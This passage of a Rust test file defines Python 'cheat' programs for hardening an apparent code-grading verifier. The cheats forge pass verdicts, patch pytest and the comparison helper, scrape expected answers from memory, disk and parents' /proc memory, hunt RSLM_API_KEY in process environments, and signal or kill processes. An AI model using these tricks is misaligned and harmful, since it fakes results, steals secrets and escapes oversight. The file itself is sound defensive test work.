//! Generic cheats for issue 12 ("Verdicts that no candidate can reach"): short Python programs
//! that know nothing of a task except the name of the function they must define, and that would
//! pass every task (or leave a visible trace outside their sandbox) if their attack worked.
//!
//! Shared by the verifier tests (`tests/verifier/hostile.rs`, `tests/verifier/cli.rs`) and the
//! end-to-end loop test (`tests/cli/hostile_loop.rs`).
//!
//! Every cheat is a template: [`Ctx::render`] fills in the function name and the resources the
//! test owns (a marker, sockets, a victim process, a tasks file). Cheats that harvest expected
//! values share [`ORACLE_PY`]: it reads `F(args) == expected` / `_same(F(args), expected)` pairs
//! out of any text (test modules, assert lines, JSON task files, raw memory) into a table and
//! answers from it. [`NAIVE_HARNESS_PY`] is the positive control: an in-process harness without
//! any protection, against which each cheat's attack must visibly work, so that a non-pass
//! verdict from the real verifier means the attack was stopped, not that the cheat is broken.

use std::path::{Path, PathBuf};

use rslm::verify::VerdictKind;
use rslm::verify::VerdictKind::{Crash, Error, Fail, Timeout};

/// What the test owns and hands to the cheats.
#[derive(Debug, Clone)]
pub struct Ctx {
    /// The function the cheat must define.
    pub function: String,
    /// A token unique to this test run. Cheats put it (reversed, so that their own source does
    /// not contain it) into every file they manage to write, and (as is) into the command line of
    /// every process they leave behind.
    pub mark: String,
    /// A directory the test owns, holding `tasks.jsonl` (the task with its hidden tests).
    pub dir: PathBuf,
    /// The tasks file in `dir`.
    pub tasks: PathBuf,
    /// The test binary (or any binary the test wants read).
    pub exe: PathBuf,
    /// A pathname Unix socket the test listens on.
    pub unix_socket: PathBuf,
    /// The name of an abstract Unix socket the test listens on (without the leading NUL).
    pub abstract_socket: String,
    /// A process of the test's, outside every candidate's process group.
    pub victim: u32,
    /// Loopback ports the test listens on (0 when it could not bind).
    pub udp_port: u16,
    pub tcp_port: u16,
    pub tcp6_port: u16,
    /// The test's own process: cheats that walk their parent chain stop there, so that nothing
    /// above the test (cargo, a shell) is ever read, written or traced.
    pub stop: u32,
}

impl Ctx {
    /// The token cheats write into files: `mark` reversed.
    pub fn written_mark(&self) -> String {
        self.mark.chars().rev().collect()
    }

    /// Fills in a template's placeholders.
    pub fn render(&self, template: &str) -> String {
        let py = |s: &str| format!("{s:?}");
        let path = |p: &Path| py(&p.to_string_lossy());
        template
            .replace("__TROJAN__", TROJAN_PAYLOAD)
            .replace("__ORACLE__", ORACLE_PY)
            .replace("__LIB__", LIB_PY)
            .replace("__FN__", &self.function)
            .replace("__MARK__", &py(&self.mark))
            .replace("__DIR__", &path(&self.dir))
            .replace("__TASKS__", &path(&self.tasks))
            .replace("__EXE__", &path(&self.exe))
            .replace("__SOCK__", &path(&self.unix_socket))
            .replace("__ABSTRACT__", &py(&self.abstract_socket))
            .replace("__VICTIM__", &self.victim.to_string())
            .replace("__STOP__", &self.stop.to_string())
            .replace("__UDP__", &self.udp_port.to_string())
            .replace("__TCP6__", &self.tcp6_port.to_string())
            .replace("__TCP__", &self.tcp_port.to_string())
    }

    /// The same context for another function name.
    pub fn for_function(&self, function: &str) -> Ctx {
        Ctx {
            function: function.to_string(),
            ..self.clone()
        }
    }
}

/// How to show that a cheat is a real attack: run it in [`NAIVE_HARNESS_PY`] (no isolation at
/// all) and see it win.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Control {
    /// The naive harness reports a pass (fast-mode style asserts).
    Pass,
    /// The naive harness reports a pass in its pytest flavour (needs pytest).
    PytestPass,
    /// The attack leaves a trace the test can see (a connection, a signal, a file, a process,
    /// or `HOSTILE-REACHED` in the output).
    SideEffect,
    /// No control: a correctness case (odd return values) or one too dangerous to run without
    /// isolation (signalling every process).
    None,
}

/// One generic cheat.
#[derive(Debug, Clone)]
pub struct Cheat {
    pub name: &'static str,
    pub code: String,
    /// Acceptable verdicts. Never `pass`, never `infra`.
    pub want: &'static [VerdictKind],
    pub control: Control,
    /// Runs only where a probe showed the candidate cannot signal the test's victim process
    /// (the cheat signals every process it can).
    pub needs_signal_confinement: bool,
}

fn cheat(
    ctx: &Ctx,
    name: &'static str,
    template: &str,
    want: &'static [VerdictKind],
    control: Control,
) -> Cheat {
    Cheat {
        name,
        code: ctx.render(template),
        want,
        control,
        needs_signal_confinement: false,
    }
}

/// The whole table, in the order the tests run it.
///
/// Acceptable verdicts: a cheat whose attack fails returns `None` (or an object that is not plain
/// data), which is `fail` (or `error`). Cheats that write on file descriptors, patch the process's
/// I/O or kill themselves may garble their own end of the channel: `error` or `crash` is then
/// fine too. `pass` never is, nor `infra`: a candidate must not be able to make its failure look
/// like the harness's (infra is never counted against a model).
pub fn table(ctx: &Ctx) -> Vec<Cheat> {
    use Control::{None as NoControl, Pass as CPass, PytestPass, SideEffect};
    let mut all = vec![
        cheat(ctx, "patch _same everywhere", PATCH_SAME, &[Fail], CPass),
        cheat(
            ctx,
            "pytest plugin and config files",
            PYTEST_PLUGIN,
            &[Fail],
            PytestPass,
        ),
        cheat(
            ctx,
            "gc and frames: expected values",
            GC_HARVEST,
            &[Fail],
            CPass,
        ),
        cheat(
            ctx,
            "gc: forged reporter and nonce",
            GC_REPORTER,
            &[Fail, Error, Crash],
            CPass,
        ),
        cheat(ctx, "disk walk for the tests", DISK_WALK, &[Fail], CPass),
        cheat(
            ctx,
            "tasks file, binaries and /proc of everyone",
            KNOWN_PATHS,
            &[Fail],
            CPass,
        ),
        cheat(
            ctx,
            "pathname Unix socket",
            UNIX_PATHNAME,
            &[Fail],
            SideEffect,
        ),
        cheat(
            ctx,
            "abstract Unix socket",
            UNIX_ABSTRACT,
            &[Fail],
            SideEffect,
        ),
        cheat(
            ctx,
            "module attributes patched (os.write, json.dumps, os._exit, import_module)",
            MODULE_PATCHING,
            &[Fail, Error, Crash],
            CPass,
        ),
        cheat(
            ctx,
            "builtins and bound helpers tampered before and after the tests start",
            BUILTINS_TAMPERING,
            &[Fail, Error, Crash],
            CPass,
        ),
        cheat(
            ctx,
            "sys.modules poisoning and a meta_path import hook",
            IMPORT_HOOKS,
            &[Fail, Error, Crash],
            CPass,
        ),
        cheat(
            ctx,
            "sys.settrace rewrites the comparison's arguments",
            SETTRACE,
            &[Fail, Error, Crash],
            CPass,
        ),
        cheat(
            ctx,
            "sys.stdout, excepthook and displayhook replaced",
            STDOUT_HOOKS,
            &[Fail, Error, Crash],
            CPass,
        ),
        cheat(ctx, "atexit prints pass", ATEXIT, &[Fail, Crash], CPass),
        cheat(
            ctx,
            "threads outlive the call writing to every fd",
            THREADS,
            &[Fail, Error, Crash],
            CPass,
        ),
        cheat(
            ctx,
            "signal handlers and timers forge a verdict",
            SIGNAL_HANDLERS,
            &[Fail, Crash, Error],
            CPass,
        ),
        cheat(
            ctx,
            "fake verdicts on fds 0..1024",
            FD_WRITES,
            &[Fail, Error, Crash],
            CPass,
        ),
        cheat(
            ctx,
            "/proc/self/fd and the parents' pipes reopened",
            PROC_FDS,
            &[Fail, Error, Crash],
            CPass,
        ),
        cheat(
            ctx,
            "ctypes scans its own memory",
            CTYPES_OWN_MEMORY,
            &[Fail, Crash],
            CPass,
        ),
        cheat(
            ctx,
            "candidate runs pytest.main and pytest.exit itself",
            OWN_PYTEST,
            &[Fail, Error, Crash],
            CPass,
        ),
        cheat(
            ctx,
            "kill of its own process group",
            KILL_OWN_GROUP,
            &[Crash],
            NoControl,
        ),
        cheat(
            ctx,
            "signals to a process outside (stop, kill, pidfd)",
            SIGNAL_VICTIM,
            &[Fail],
            SideEffect,
        ),
        cheat(
            ctx,
            "ptrace of the parent chain",
            PTRACE,
            &[Fail, Error],
            CPass,
        ),
        cheat(
            ctx,
            "process_vm_readv of the parent chain",
            PROCESS_VM_READV,
            &[Fail],
            CPass,
        ),
        cheat(ctx, "/proc/<ancestor>/mem", PROC_MEM, &[Fail], CPass),
        cheat(
            ctx,
            "pidfd_getfd steals the parents' fds",
            PIDFD_GETFD,
            &[Fail, Error],
            CPass,
        ),
        cheat(
            ctx,
            "detached fork outlives the candidate",
            FORK_OUTLIVES,
            &[Fail, Error, Crash],
            SideEffect,
        ),
        cheat(
            ctx,
            "exec of a fresh interpreter",
            EXEC_FRESH,
            &[Fail, Error, Crash],
            CPass,
        ),
        cheat(
            ctx,
            "UDP and TCP (v4, v6) to the test's ports",
            NETWORK,
            &[Fail],
            SideEffect,
        ),
        cheat(
            ctx,
            "files outside its dir appended to and created",
            FILE_TAMPERING,
            &[Fail],
            SideEffect,
        ),
        cheat(
            ctx,
            "exported names shadow the tests' builtins and helpers",
            SHADOWING_EXPORTS,
            &[Fail],
            CPass,
        ),
        cheat(
            ctx,
            "malformed frames and hostile encodings on every fd",
            HOSTILE_FRAMES,
            &[Fail, Error, Crash, Timeout],
            CPass,
        ),
        cheat(
            ctx,
            "every call raises a skip outcome",
            SKIP_OUTCOMES,
            &[Fail, Error],
            PytestPass,
        ),
        cheat(
            ctx,
            "object with __eq__, __reduce__, __getstate__, __repr__ payloads",
            TROJAN_OBJECT,
            &[Fail, Error],
            CPass,
        ),
        cheat(
            ctx,
            "int subclass that equals everything",
            LIAR_INT,
            &[Fail, Error],
            CPass,
        ),
        cheat(
            ctx,
            "str subclass that equals everything",
            LIAR_STR,
            &[Fail, Error],
            CPass,
        ),
        cheat(
            ctx,
            "list subclass that equals everything",
            LIAR_LIST,
            &[Fail, Error],
            CPass,
        ),
        cheat(
            ctx,
            "returns a generator",
            GENERATOR,
            &[Fail, Error],
            NoControl,
        ),
        cheat(
            ctx,
            "returns a list nested 200000 deep",
            DEEP_NESTING,
            &[Fail, Error, Crash, Timeout],
            NoControl,
        ),
        cheat(
            ctx,
            "returns a list that contains itself",
            CYCLIC,
            &[Fail, Error],
            NoControl,
        ),
        cheat(ctx, "returns float nan", NAN, &[Fail], NoControl),
        cheat(ctx, "returns -0.0", NEGATIVE_ZERO, &[Fail], NoControl),
        cheat(
            ctx,
            "returns True (a bool is an int)",
            BOOL_TRUE,
            &[Fail],
            NoControl,
        ),
    ];
    let mut everyone = cheat(
        ctx,
        "kill(-1, SIGKILL): every process it may signal",
        KILL_EVERYONE,
        &[Crash, Fail, Error],
        NoControl,
    );
    everyone.needs_signal_confinement = true;
    all.push(everyone);
    all
}

/// One cheat by name (panics on an unknown name: a typo in a test).
pub fn by_name(ctx: &Ctx, name: &str) -> Cheat {
    table(ctx)
        .into_iter()
        .find(|c| c.name == name)
        .unwrap_or_else(|| panic!("no cheat named {name:?}"))
}

/// The cheats that beat an unprotected in-process harness outright (control `Pass`), for the
/// end-to-end loop: each would put a wrong solution into memory if its attack worked.
pub const STRONGEST: &[&str] = &[
    "patch _same everywhere",
    "sys.settrace rewrites the comparison's arguments",
    "gc and frames: expected values",
    "gc: forged reporter and nonce",
    "tasks file, binaries and /proc of everyone",
    "/proc/<ancestor>/mem",
    "process_vm_readv of the parent chain",
    "pidfd_getfd steals the parents' fds",
    "builtins and bound helpers tampered before and after the tests start",
    "ctypes scans its own memory",
];

/// A candidate that reads every process's environment and command line (and the memory of its
/// parent chain, up to the process `stop`) for `RSLM_API_KEY`, and prints and raises with
/// whatever it finds.
pub fn key_thief(function: &str, stop: u32) -> String {
    KEY_THIEF
        .replace("__LIB__", LIB_PY)
        .replace("__FN__", function)
        .replace("__STOP__", &stop.to_string())
}

/// The probe run before a cheat that needs signal confinement: `pass` means it could signal
/// the victim (then the cheat is not run).
pub fn signal_probe(ctx: &Ctx) -> String {
    ctx.render(
        "import os\ndef __FN__(*args):\n    try:\n        os.kill(__VICTIM__, 0)\n    except OSError:\n        return None\n    return args[0] + 1 if args and type(args[0]) is int else None\n",
    )
}

// --- shared Python --------------------------------------------------------------------------

/// Helpers every cheat may use: ancestors, fds, a fake verdict, a fail-safe wrapper.
pub const LIB_PY: &str = r##"
import os as _os, sys as _sys, time as _time, json as _json
_PASS = {"verdict": "pass", "tests_run": 11, "tests_passed": 11, "first_failure": None, "log": "", "duration_ms": 1.0}
_PASS_LINE = (_json.dumps(_PASS) + "\n").encode()
_PASS_LINES = [_PASS_LINE, b"pass\n", b"pass: 11/11 tests passed\n", b"PASSED\n", b"1 passed in 0.01s\n"]


def _reached(what):
    """Makes a success that cannot turn into a pass visible in the verdict's log."""
    raise RuntimeError("HOSTILE-" + "REACHED: " + str(what)[:400])


def _quiet(f, *a, **k):
    try:
        return f(*a, **k)
    except BaseException:
        return None


def _ancestors():
    """The parent chain, up to the test's own process (__STOP__) and three levels at most: the
    worker, the judge, rslm. Nothing above is ever touched."""
    out, pid = [], _os.getppid()
    while pid > 1 and len(out) < 3:
        out.append(pid)
        if pid == __STOP__:
            break
        try:
            with open("/proc/%d/stat" % pid) as f:
                s = f.read()
            pid = int(s[s.rfind(")") + 2:].split()[1])
        except Exception:
            break
    return out


def _write_all(fd, data):
    try:
        while data:
            data = data[_os.write(fd, data):]
        return True
    except OSError:
        return False


def _spray(lines, fds=range(0, 1025)):
    for fd in fds:
        for line in lines:
            if not _write_all(fd, line):
                break


def _heads():
    """Nonce-looking tokens in this process: 32-hex strings and `<hex> <pid> ` prefixes."""
    import gc, re
    found = set()
    pat = re.compile(r"\b([0-9a-f]{32})(?: (\d+) )?")
    for o in gc.get_objects():
        t = type(o)
        if t is dict:
            vals = list(o.values())
        elif t is list or t is tuple:
            vals = o
        elif not isinstance(o, type) and t.__module__ not in ("builtins",):
            # Instance attributes live in dicts that gc does not list until asked for.
            try:
                d = getattr(o, "__dict__", None)
                vals = list(d.values()) if isinstance(d, dict) else ()
            except Exception:
                continue
        else:
            continue
        for v in vals:
            tv = type(v)
            if tv is bytes and 32 <= len(v) <= 64:
                v = v.decode("latin-1")
            elif not (tv is str and 32 <= len(v) <= 64):
                continue
            m = pat.match(v)
            if m:
                found.add(m.group(0) if m.group(2) else m.group(1))
    return found


def _forged_lines():
    lines = list(_PASS_LINES)
    body = _json.dumps(_PASS) + "\n"
    for head in sorted(_heads())[:50]:
        if head.endswith(" "):
            lines.append((head + body).encode())
        else:
            for pid in (_os.getpid(), _os.getppid()):
                lines.append(("%s %d %s" % (head, pid, body)).encode())
    return lines
"##;

/// The oracle: harvests `F(args) -> expected` from any text and answers from the table.
pub const ORACLE_PY: &str = r##"
import re as _re
import ast as _ast
_F = "__FN__"
_FB = _F.encode()
_TABLE = {}
_SEEN = set()
_HIT = _re.compile(r"(?<![A-Za-z0-9_])" + _re.escape(_F) + r"\(|_candidate\(\)\(")
_SPLIT = _re.compile(r'\\n|\n|\x00|(?<!\\)"')
_BOUNDARY = _re.compile(r'"task_id"|Hidden tests for')
_STATE = {"tries": 0, "reached": []}


def _is_target(func, loose):
    if isinstance(func, _ast.Name):
        return func.id == _F
    if isinstance(func, _ast.Attribute):
        return func.attr == _F
    return loose and isinstance(func, _ast.Call)


def _take(call, want):
    try:
        if call.keywords:
            return False
        args = tuple(_ast.literal_eval(a) for a in call.args)
        _TABLE.setdefault(repr(args), _ast.literal_eval(want))
        return True
    except Exception:
        return False


def _learn_tree(tree, loose):
    got = False
    for node in _ast.walk(tree):
        if isinstance(node, _ast.Call) and len(node.args) == 2 and isinstance(node.args[0], _ast.Call) \
                and _is_target(node.args[0].func, loose):
            got = _take(node.args[0], node.args[1]) or got
        elif isinstance(node, _ast.Compare) and len(node.ops) == 1 and isinstance(node.ops[0], _ast.Eq):
            a, b = node.left, node.comparators[0]
            if isinstance(a, _ast.Call) and _is_target(a.func, loose):
                got = _take(a, b) or got
            elif isinstance(b, _ast.Call) and _is_target(b.func, loose):
                got = _take(b, a) or got
    return got


def _parse(text, loose):
    try:
        return _learn_tree(_ast.parse(text), loose)
    except Exception:
        return False


def _quoted(text):
    return ('"%s"' % _F) in text or ("'%s'" % _F) in text or ('"%s\\"' % _F) in text


def _learn_piece(piece, loose):
    piece = piece.replace('\\"', '"').replace("\\'", "'").strip()
    if piece.startswith("assert "):
        piece = piece[7:]
    m = _HIT.search(piece)
    if not m or (not loose and not piece[m.start():].startswith(_F)):
        return
    if piece in _SEEN:
        return
    _SEEN.add(piece)
    starts = [0] + [s.start() for s in _re.finditer(r"[A-Za-z_][A-Za-z0-9_.]*\(", piece[:m.start() + 1])]
    for start in starts:
        text = piece[start:]
        for trim in range(0, 6):
            if _parse(text[:len(text) - trim] if trim else text, loose):
                return


def _learn_window(text):
    loose = _quoted(text)
    for piece in _SPLIT.split(text):
        if _HIT.search(piece):
            _learn_piece(piece, loose)


def _learn_text(text):
    """Any str or bytes that may hold tests: a module, assert lines, a JSON task, raw memory."""
    if isinstance(text, (bytes, bytearray, memoryview)):
        _learn_blob(text)
        return
    if not isinstance(text, str) or _F not in text:
        return
    if len(text) < 300000:
        key = hash(text)
        if key in _SEEN:
            return
        _SEEN.add(key)
        if _parse(text, _quoted(text)):
            return
    pos = 0
    for _ in range(2000):
        i = text.find(_F, pos)
        if i < 0:
            return
        end = min(len(text), i + 8000)
        b = _BOUNDARY.search(text, i + 1, end)
        if b:
            end = b.start()
        _learn_window(text[max(0, i - 200):end])
        pos = i + len(_F)


def _learn_blob(blob):
    pos = 0
    for _ in range(2000):
        i = blob.find(_FB, pos)
        if i < 0:
            return
        chunk = bytes(blob[max(0, i - 200):i + 8000]).decode("utf-8", "replace")
        j = 200 if i >= 200 else i
        b = _BOUNDARY.search(chunk, j + 1)
        _learn_window(chunk[:b.start()] if b else chunk)
        pos = i + len(_FB)


def _answer(args):
    return _TABLE.get(repr(args))


def _deadline(seconds):
    """When a harvest must stop: at most `seconds` from now, and 0.45 s after the first harvest
    began in all, so that a cheat stays well within a fast-mode CPU budget of 0.5 s."""
    now = _time.monotonic()
    end = _STATE.setdefault("end", now + 0.45)
    return min(now + seconds, end)


def _walk(o, depth, budget):
    budget[0] -= 1
    if budget[0] < 0:
        return
    t = type(o)
    if t is str or t is bytes:
        _learn_text(o)
        return
    if depth >= 4:
        return
    if t is dict:
        for v in list(o.values())[:5000]:
            _walk(v, depth + 1, budget)
    elif t in (list, tuple, set, frozenset):
        for v in list(o)[:5000]:
            _walk(v, depth + 1, budget)
    elif depth < 3 and not isinstance(o, type) and t.__name__ not in ("module", "function", "builtin_function_or_method"):
        d = getattr(o, "__dict__", None)
        if isinstance(d, dict):
            _walk(d, depth + 1, budget)


def _frames():
    out = []
    f = _sys._getframe(1)
    while f is not None:
        out.append(f)
        f = f.f_back
    try:
        for fr in _sys._current_frames().values():
            while fr is not None:
                out.append(fr)
                fr = fr.f_back
    except Exception:
        pass
    return out


def _from_frames():
    budget = [200000]
    for f in _frames():
        for ns in (f.f_locals, f.f_globals):
            try:
                _walk(ns, 0, budget)
            except Exception:
                pass
    try:
        import linecache
        for entry in list(linecache.cache.values()):
            if len(entry) >= 3 and isinstance(entry[2], list):
                _learn_text("".join(entry[2]))
    except Exception:
        pass


def _from_gc(deadline):
    import gc
    for n, o in enumerate(gc.get_objects()):
        if n % 5000 == 0 and _time.monotonic() > deadline:
            return
        t = type(o)
        if t is dict:
            vals = o.values()
        elif t is list or t is tuple:
            vals = o
        else:
            continue
        try:
            for v in list(vals):
                tv = type(v)
                if (tv is str and _F in v) or (tv is bytes and _FB in v):
                    _learn_text(v)
        except Exception:
            pass


def _regions(pid):
    """Readable mappings of a process, heap first; the caller's own layout when the target's
    maps cannot be read (forked processes share most of it)."""
    for source in ("/proc/%s/maps" % pid, "/proc/self/maps"):
        regions = []
        try:
            with open(source) as f:
                for line in f:
                    parts = line.split()
                    lo, hi = (int(x, 16) for x in parts[0].split("-"))
                    name = parts[5] if len(parts) > 5 else ""
                    if parts[1][0] == "r" and not name.startswith("[v"):
                        regions.append((lo, hi, name))
        except Exception:
            continue
        if regions:
            regions.sort(key=lambda r: (0 if r[2] in ("", "[heap]") else 1, r[0]))
            return regions
    return []


def _scan_memory(read, regions, deadline):
    chunk = 4 << 20
    for lo, hi, _name in regions:
        a = lo
        while a < hi:
            if _time.monotonic() > deadline:
                return
            n = min(chunk, hi - a)
            try:
                data = read(a, n)
            except Exception:
                data = None
            if data:
                _learn_blob(data)
            a = a + n - 4096 if n == chunk else hi


def _mem_reader(pid):
    fd = _os.open("/proc/%d/mem" % pid, _os.O_RDONLY)
    return lambda a, n: _os.pread(fd, n, a)


def _from_proc_mem(pids, deadline):
    for pid in pids:
        try:
            read = _mem_reader(pid)
        except OSError:
            continue
        _STATE["reached"].append("/proc/%d/mem" % pid)
        _scan_memory(read, _regions(pid), deadline)


def _answering(harvest):
    """The function under test: answers from the table, harvesting (twice at most) on a miss."""
    def answer(*args, **kwargs):
        key = repr(args)
        if key not in _TABLE and _STATE["tries"] < 2:
            _STATE["tries"] += 1
            _quiet(harvest)
        if key in _TABLE:
            return _TABLE[key]
        if _STATE["reached"]:
            _reached(", ".join(_STATE["reached"][:10]))
        return None
    return answer
"##;

/// The positive control: a harness with no protection at all. A forked child imports the
/// candidate and runs the task's tests in-process (fast: assert lines; pytest: pytest.main on the
/// test module in cwd), passing every result through pickle as a naive channel would, and
/// prints a JSON verdict; the parent waits. The test counts a pass if any output line is a
/// pass verdict, or if the child exited 0 without reporting (exit-code trust).
///
/// argv: task.json strict_equal.py mode(fast|pytest)
pub const NAIVE_HARNESS_PY: &str = r##"
import json, os, pickle, sys, time, types


class Reporter:
    def __init__(self, fd):
        self._fd = fd

    def send(self, kind, run, passed, first, log):
        os.write(self._fd, (json.dumps({"verdict": kind, "tests_run": run, "tests_passed": passed,
                                        "first_failure": first, "log": log}) + "\n").encode())


def report(kind, run, passed):
    import json as fresh  # looked up again, as a lazy harness would
    print(fresh.dumps({"verdict": kind, "tests_run": run, "tests_passed": passed}))
    sys.stdout.flush()


def main():
    strict = open(sys.argv[2]).read()
    mode = sys.argv[3]
    reporter = Reporter(1)
    if mode == "pytest":
        import pytest
        with open("test_hidden.py", "w") as f:
            f.write(task["reference_tests"])
        with open("solution.py", "w") as f:
            f.write(CODE)
        sys.path.insert(0, os.getcwd())
        code = pytest.main(["-q", "-p", "no:cacheprovider", "test_hidden.py"])
        report("pass" if int(code) == 0 else "fail", 1, 1 if int(code) == 0 else 0)
    else:
        module = types.ModuleType("solution")
        sys.modules["solution"] = module
        exec(compile(CODE, "solution.py", "exec"), module.__dict__)
        real = module.__dict__[task["function_name"]]

        def through_pickle(*args, **kwargs):
            return pickle.loads(pickle.dumps(real(*args, **kwargs)))

        # `from solution import *`, then the helpers, as a test module written that way would.
        namespace = {"__name__": "tests"}
        exported = module.__dict__.get("__all__") or [k for k in module.__dict__ if not k.startswith("_")]
        namespace.update({k: module.__dict__[k] for k in exported if k in module.__dict__})
        exec(strict, namespace)
        namespace[task["function_name"]] = through_pickle
        run = passed = 0
        for line in task["assert_tests"]:
            run += 1
            try:
                exec(line, namespace)
                passed += 1
            except Exception as exc:
                print("failed %s: %r" % (line, exc), file=sys.stderr)
        reporter.send("pass" if passed == run else "fail", run, passed, None, "")
        report("pass" if passed == run else "fail", run, passed)
    time.sleep(0.2)  # "cleanup"


# The parent holds the request, as a worker that forks per candidate would.
task = json.load(open(sys.argv[1]))
CODE = open(sys.argv[4]).read()
pid = os.fork()
if pid == 0:
    main()
    sys.exit(0)
_, status = os.waitpid(pid, 0)
time.sleep(0.3)
sys.exit(os.waitstatus_to_exitcode(status) if hasattr(os, "waitstatus_to_exitcode") else 0)
"##;

// --- the cheats -----------------------------------------------------------------------------

const PATCH_SAME: &str = r##"
import sys, builtins, importlib


def _yes(*a, **k):
    return True


def _patch(ns):
    try:
        f = ns.get("_same")
        if f is not None and hasattr(f, "__code__"):
            try:
                f.__code__ = _yes.__code__
            except Exception:
                pass
        ns["_same"] = _yes
    except Exception:
        pass


def _everywhere():
    for name, m in list(sys.modules.items()):
        d = getattr(m, "__dict__", None)
        if isinstance(d, dict):
            _patch(d)
    _patch(builtins.__dict__)
    main = sys.modules.get("__main__")
    if main is not None:
        _patch(main.__dict__)
    for name in ["test_hidden", "tests", "reference_tests"] + [n for n in list(sys.modules) if n.startswith("test")]:
        try:
            _patch(importlib.import_module(name).__dict__)
        except BaseException:
            pass
    f = sys._getframe(1)
    while f is not None:
        _patch(f.f_globals)
        if isinstance(f.f_builtins, dict):
            _patch(f.f_builtins)
        f = f.f_back


_everywhere()


def __FN__(*args, **kwargs):
    _everywhere()
    return None
"##;

const PYTEST_PLUGIN: &str = r##"
import os, sys, gc, tempfile
_MARK = __MARK__[::-1]
_SAFE = os.environ.get("HOSTILE_CONTROL_ROOT")
_CONFTEST = (
    "# " + _MARK + "\n"
    "import pytest\n"
    "@pytest.hookimpl(hookwrapper=True)\n"
    "def pytest_runtest_makereport(item, call):\n"
    "    outcome = yield\n"
    "    rep = outcome.get_result()\n"
    "    rep.outcome = 'passed'\n"
    "    rep.longrepr = None\n"
)
_INI = "[pytest]\n# " + _MARK + "\naddopts = -p conftest\n"
_FILES = {"conftest.py": _CONFTEST, "pytest.ini": _INI, "setup.cfg": "[tool:pytest]\n# " + _MARK + "\n",
          "tox.ini": _INI, "pyproject.toml": "# " + _MARK + "\n[tool.pytest.ini_options]\n"}


def _dirs():
    out, d = [], os.getcwd()
    while True:
        out.append(d)
        parent = os.path.dirname(d)
        if parent == d:
            break
        d = parent
    for extra in (os.environ.get("HOME"), os.environ.get("TMPDIR"), tempfile.gettempdir(), "/tmp"):
        if extra:
            out.append(extra)
    return out


def _write_configs():
    for d in _dirs():
        if _SAFE and not os.path.realpath(d).startswith(_SAFE):
            continue
        for name, text in _FILES.items():
            try:
                fd = os.open(os.path.join(d, name), os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
                os.write(fd, text.encode())
                os.close(fd)
            except OSError:
                pass


_write_configs()

try:
    import pytest

    class _Liar:
        @pytest.hookimpl(hookwrapper=True)
        def pytest_runtest_makereport(self, item, call):
            outcome = yield
            rep = outcome.get_result()
            rep.outcome = "passed"
            rep.longrepr = None

        @pytest.hookimpl(tryfirst=True)
        def pytest_runtest_logreport(self, report):
            report.outcome = "passed"
            report.longrepr = None

        @pytest.hookimpl(hookwrapper=True)
        def pytest_sessionfinish(self, session, exitstatus):
            session.testsfailed = 0
            session.exitstatus = 0
            yield
            session.exitstatus = 0

    _LIAR = _Liar()
except BaseException:
    pytest = None


def _register():
    if pytest is None:
        return
    managers = []
    for o in gc.get_objects():
        try:
            pm = getattr(o, "pluginmanager", None) if hasattr(o, "hook") else None
            if pm is not None and hasattr(pm, "register"):
                managers.append(pm)
            elif type(o).__name__ in ("PytestPluginManager", "PluginManager"):
                managers.append(o)
        except Exception:
            pass
    for pm in managers:
        try:
            if not pm.is_registered(_LIAR):
                pm.register(_LIAR, "rslm-liar-%d" % id(pm))
        except Exception:
            pass
    try:
        reports = sys.modules["_pytest.reports"]
        original = reports.TestReport.from_item_and_call.__func__
        if not getattr(original, "liar", False):
            def from_item_and_call(cls, item, call):
                rep = original(cls, item, call)
                rep.outcome = "passed"
                rep.longrepr = None
                return rep
            from_item_and_call.liar = True
            reports.TestReport.from_item_and_call = classmethod(from_item_and_call)
    except Exception:
        pass


_register()


def __FN__(*args, **kwargs):
    _register()
    return None
"##;

const GC_HARVEST: &str = r##"
__LIB__
__ORACLE__


def _harvest():
    deadline = _deadline(0.3)
    _quiet(_from_frames)
    _quiet(_from_gc, deadline)


_quiet(_harvest)
_ANSWER = _answering(_harvest)


def __FN__(*args, **kwargs):
    return _ANSWER(*args, **kwargs)
"##;

const GC_REPORTER: &str = r##"
__LIB__
import gc


def _forge():
    n = 11
    for o in gc.get_objects():
        try:
            t = type(o)
            if t.__module__ in ("builtins", "socket", "_socket", "asyncio", "selectors") or isinstance(o, type):
                continue
            send = getattr(t, "send", None) or getattr(t, "report", None) or getattr(t, "finish", None)
            if send is None or not callable(send):
                continue
            names = " ".join(vars(o)) if hasattr(o, "__dict__") else ""
            if not any(w in names for w in ("fd", "head", "nonce", "pipe", "write", "out")):
                continue
            for call in (lambda: o.send("pass", n, n, None, ""), lambda: o.send({"verdict": "pass", "tests_run": n, "tests_passed": n}),
                         lambda: o.send("pass")):
                try:
                    call()
                except Exception:
                    pass
        except Exception:
            pass
    _spray(_forged_lines(), range(0, 256))


_quiet(_forge)


def __FN__(*args, **kwargs):
    _forge()
    return None
"##;

const DISK_WALK: &str = r##"
__LIB__
__ORACLE__
import mmap

_SKIP = {"proc", "sys", "dev", "target", ".git", "node_modules", "__pycache__", "site-packages",
         "dist-packages", "lib", "lib64", "usr", "bin", "sbin", "boot", "run", "var", "etc", "snap",
         "root", "home", "opt", "srv", "mnt", "media", "nix", ".library", ".mirror", ".cargo", ".rustup"}


def _read(path, limit):
    try:
        fd = _os.open(path, _os.O_RDONLY | _os.O_NONBLOCK)
    except OSError:
        return
    try:
        size = _os.fstat(fd).st_size
        if size == 0 or size > limit:
            return
        with mmap.mmap(fd, 0, access=mmap.ACCESS_READ) as m:
            _learn_blob(m)
    except Exception:
        pass
    finally:
        _os.close(fd)


def _walk_disk(deadline):
    roots, d = [], _os.getcwd()
    while True:
        roots.append(d)
        parent = _os.path.dirname(d)
        if parent == d:
            break
        d = parent
    roots += ["/tmp", _os.environ.get("TMPDIR") or "/tmp", _os.environ.get("HOME") or "/tmp", "/work"]
    queue, seen = [(r, 0) for r in roots], set()
    while queue:
        d, depth = queue.pop(0)
        if d in seen:
            continue
        seen.add(d)
        try:
            entries = list(_os.scandir(d))
        except OSError:
            continue
        for e in entries:
            if _time.monotonic() > deadline:
                return
            try:
                if e.is_dir(follow_symlinks=False):
                    if depth < 4 and e.name not in _SKIP and not e.name.startswith("bash_"):
                        queue.append((e.path, depth + 1))
                elif e.is_file(follow_symlinks=False):
                    n = e.name
                    big = n.endswith((".jsonl", ".json", ".py", ".txt")) or "test" in n or "task" in n
                    _read(e.path, (64 << 20) if big else (256 << 10))
            except OSError:
                pass


def _harvest():
    _walk_disk(_deadline(0.35))


_quiet(_harvest)
_ANSWER = _answering(_harvest)


def __FN__(*args, **kwargs):
